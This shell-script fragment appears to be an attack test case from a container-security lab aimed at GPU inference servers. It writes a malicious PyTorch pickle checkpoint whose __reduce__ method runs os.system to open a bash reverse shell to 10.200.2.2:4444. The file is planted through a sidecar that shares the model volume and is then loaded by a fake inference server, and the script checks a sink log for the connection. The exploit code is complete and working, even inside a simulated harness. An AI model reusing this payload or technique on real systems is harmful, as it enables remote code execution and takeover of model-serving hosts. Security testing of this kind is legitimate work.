# A10 malicious pickle checkpoint loaded by the GPU-owning server -> reverse shell
mkdir -p "$H/models/evil-ckpt"      # planted from a sidecar that shares the model volume (GPU-005)
ctr_run simctr-sidecar-a10 ctr-infer --mount --pid --fork --mount-proc -- python3 - "$H/models/evil-ckpt/pytorch_model.bin" <<'P'
import os, pickle, sys
class P:
    def __reduce__(self):
        return (os.system, ("bash -c 'timeout 8 bash -i >& /dev/tcp/10.200.2.2/4444 0>&1' &",))
pickle.dump(P(), open(sys.argv[1], 'wb'))
P
rm -f "$H/go-a10"
ctr_run simctr-infer-a10 ctr-infer --mount --pid --fork --mount-proc -- timeout 25 python3 "$H/fake_infer.py" --port 8000 \
  --wait-file "$H/go-a10" --model "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors" \
  --pickle "$H/models/evil-ckpt/pytorch_model.bin" & J=$!
sleep 2; nvml_mock_add "$(host_pid_of 'fake_infer.py --port 8000 --wait-file')"; touch "$H/go-a10"  # GPU host: add --cuda, skip the mock
wait "$J"; grep ':4444' "$H/sink.log" | tail -1       # the sink logs a connection when it closes
